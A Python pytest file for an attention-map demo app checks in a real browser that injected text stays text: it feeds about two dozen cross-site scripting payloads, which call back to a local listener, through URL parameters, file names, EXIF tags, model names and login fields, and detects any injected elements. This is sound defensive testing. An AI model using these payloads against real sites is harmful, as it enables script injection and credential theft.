"""Text from strangers in a real browser: it stays text, and a listener beside the page hears nothing."""

from __future__ import annotations

import http.server
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from threading import Thread
from typing import Any
from urllib.parse import urlencode, urlsplit

import httpx
import pytest
from PIL import Image

import vitattn_widgets as va
from vitattn_widgets.demo.controls import DEFAULTS
from vitattn_widgets.demo.routes import PREFIX

from ..conftest import noise_photo
from ..lab import CHROMIUM, running_browser
from .lab import Visitor, png, running_page

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it with apt install chromium")

PAYLOADS = (
    "<img src=//{host}/{n}>",
    "<img src=x onerror=\"fetch('//{host}/{n}')\">",
    "<script src=//{host}/{n}></script>",
    "<script>fetch('//{host}/{n}')</script>",
    "<form action=//{host}/{n}><input name=p type=password autofocus></form>",
    "<iframe src=//{host}/{n}></iframe>",
    "<iframe srcdoc='<img src=//{host}/{n}>'></iframe>",
    "<svg onload=\"fetch('//{host}/{n}')\"><image href=//{host}/{n} /></svg>",
    "<link rel=stylesheet href=//{host}/{n}>",
    "<style>@import '//{host}/{n}';</style>",
    "<b style=\"background:url(//{host}/{n})\">bold</b>",
    "<base href=//{host}/{n}/>",
    '<meta http-equiv=refresh content="0;url=//{host}/{n}">',
    "<object data=//{host}/{n}></object><embed src=//{host}/{n}>",
    "<video poster=//{host}/{n} src=//{host}/{n}></video>",
    "<a href=//{host}/{n} ping=//{host}/{n}>log in again</a>",
    "\"><input type=image src=//{host}/{n}>",
    "'\" onfocus=fetch('//{host}/{n}') autofocus x='",
    "</textarea></title></style></script><img src=//{host}/{n}>",
    "![map](http://{host}/{n})",
    "[log in](javascript:fetch('//{host}/{n}'))",
    "${{fetch('//{host}/{n}')}} {{{{fetch('//{host}/{n}')}}}}",
    "url(//{host}/{n})",
    "&lt;img src=//{host}/{n}&gt;<details open ontoggle=fetch('//{host}/{n}')>",
)  # fmt: skip

FOREIGN = """(host) => {
    const loading = /^(src|href|xlink:href|srcset|data|poster|background|action|formaction|ping|style|content|srcdoc)$/;
    const bad = [];
    for (const one of document.querySelectorAll("*")) {
        for (const { name, value } of one.attributes) {
            if (name.startsWith("on") || (loading.test(name) && value.includes(host))) bad.push(one.outerHTML);
        }
    }
    return bad.concat([...document.querySelectorAll("iframe, object, embed, form, [type=password]")]
        .map((one) => one.outerHTML));
}"""


@dataclass
class Listener:
    """A server of somebody else.

    Attributes:
        host: its address.
        heard: the paths that were asked of it.
    """

    host: str
    heard: list[str] = field(default_factory=list)
    number: int = 0

    def payload(self, index: int) -> str:
        """One of `PAYLOADS`, with an address of its own at this server."""
        self.number += 1
        return PAYLOADS[index % len(PAYLOADS)].format(host=self.host, n=self.number)


@contextmanager
def running_listener() -> Iterator[Listener]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            listener.heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener = Listener(f"127.0.0.1:{server.server_port}")
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with running_listener() as listener:
        httpx.get(f"http://{listener.host}/here", trust_env=False)
        assert listener.heard == ["/here"]  # it would hear
        listener.heard.clear()
        yield listener


@pytest.fixture(scope="module")
def evil_model(wide_model: va.models.AttentionModel, listener: Listener) -> va.models.AttentionModel:
    """A model from a stranger's checkpoint: its name and its classes are payloads."""
    names = tuple(listener.payload(index) for index in range(len(wide_model.class_names)))
    return replace(wide_model, name=listener.payload(0), class_names=names)


@pytest.fixture(scope="module")
def served(evil_model, tmp_path_factory: pytest.TempPathFactory):
    with running_page(evil_model, tmp_path_factory.mktemp("gradio")) as (address, page), running_browser() as browser:
        yield address, browser, page


@pytest.fixture
def visitor(served, listener: Listener):
    visitor = Visitor(served[1], served[0])
    yield visitor
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate(FOREIGN, listener.host) == []
    assert visitor.page.evaluate("typeof window.harmed") == "undefined"
    assert listener.heard == []
    hosts = {urlsplit(address).netloc for _, address in visitor.requests if address.startswith("http")}
    assert hosts == {urlsplit(served[0]).netloc}
    visitor.close()


def look(visitor: Visitor, query: str = "") -> None:
    """Open the page until its first picture, without what it fetches ahead."""
    visitor.page.goto(f"{visitor.address}/{query}")
    visitor.wait_until()


@pytest.mark.parametrize("start", [0, 8, 16])
def test_what_a_link_says_stays_text(visitor: Visitor, listener: Listener, start: int) -> None:
    names = ["model", "sample", "panels", "difference", *DEFAULTS, "deep_link", "__theme", "q"]
    link = {name: listener.payload(start + number) for number, name in enumerate(names)}
    look(visitor, f"?{urlencode(link)}")
    message = visitor.message()
    assert all(listener.payload(start + number)[:8] in message for number in (1, 4))  # said, as text


def test_what_a_panel_of_a_link_says_stays_text(visitor: Visitor, listener: Listener) -> None:
    fields = ("model", "picture", "source", "query", "target", "head", "aggregation", "sinks")
    panels = [{name: listener.payload(number + shift) for number, name in enumerate(fields)} for shift in range(3)]
    look(visitor, f"?{urlencode({'panels': json.dumps(panels)})}")
    assert "the comparison cannot be shown" in visitor.message()


def test_names_of_files_stay_text(visitor: Visitor, listener: Listener) -> None:
    look(visitor)
    exif = Image.Exif()
    for index in range(len(PAYLOADS)):
        payload = listener.payload(index)
        name = payload.replace("/", "∕")  # a folder's separator would cut the name
        visitor.paste(b"no picture", f"{payload}.png")
        assert "not a picture of a known type" in visitor.message()
        visitor.page.get_by_role("button", name="Close this message").click()
        if index % 6 == 0:
            for tag in (0x010E, 0x010F, 0x0131, 0x013B, 0x8298):  # description, make, software, artist, copyright
                exif[tag] = payload
            stream = io.BytesIO()
            Image.fromarray(noise_photo((60, 90), index)).save(stream, "PNG", exif=exif)
            visitor.paste(stream.getvalue(), f"{name}.png")
            visitor.wait_until(picture=f"{name}.png"[-80:])


def test_names_of_classes_and_models_stay_text(visitor: Visitor, evil_model) -> None:
    look(visitor, "?source=gradient_late&target=3")
    page = visitor.page
    page.get_by_role("tab", name="What did it use?").click()
    page.get_by_text("More", exact=True).click()
    page.get_by_text("Expert", exact=True).click()
    for drawer in ("Compare", "Keep", "Check"):
        page.get_by_role("button", name=drawer, exact=True).click()
    page.get_by_role("button", name="Check this map").click()
    page.locator(".va-result-class").wait_for(timeout=30000)
    shown = page.locator(".va-viewer").inner_text()
    assert any(name in shown for name in evil_model.class_names)  # said, as text


def test_the_api_page_shows_a_link_and_a_model_as_text(visitor: Visitor, listener: Listener) -> None:
    look(visitor, f"?{urlencode({'cmap': listener.payload(0)})}")
    visitor.page.get_by_role("button", name="Use via API").click()
    visitor.page.get_by_text("gradio_client").first.wait_for(timeout=20000)


@pytest.mark.parametrize("kind", ["upload", "check", "capsule", "open"])
def test_no_answer_of_a_route_is_a_page(served, listener: Listener, kind: str) -> None:
    """Opened in a window of its own, an answer with a payload in it is not read as HTML."""
    payload, photo = listener.payload(0), png(noise_photo((9, 9)))
    answer = {
        "upload": lambda at: httpx.post(at, params={"name": payload, "model": payload}, content=photo),
        "check": lambda at: httpx.post(at, json={"model": payload, "settings": {"cmap": payload}}),
        "capsule": lambda at: httpx.get(at, params={"model": payload, "sample": payload}),
        "open": lambda at: httpx.get(at, params={"cmap": payload}),
    }[kind](f"{served[0]}/{PREFIX}/{kind}")  # fmt: skip
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_the_login_page_shows_no_text_of_a_visitor(wide_model, tmp_path, served, listener: Listener) -> None:
    with running_page(wide_model, tmp_path / "gradio", auth=[("class", "secret")]) as (address, _):
        visitor = Visitor(served[1], address)
        visitor.page.goto(f"{address}/?{urlencode({'cmap': listener.payload(4)})}")
        visitor.page.get_by_label("username").fill(listener.payload(1))
        visitor.page.get_by_label("password").fill(listener.payload(0))
        visitor.page.get_by_role("button", name="Login").click()
        visitor.page.get_by_text("Incorrect").first.wait_for(timeout=20000)
        bad: list[Any] = visitor.page.evaluate(FOREIGN, listener.host)
        assert [html for html in bad if 'type="password"' not in html and "<form" not in html] == []
        assert listener.heard == []
        visitor.close()
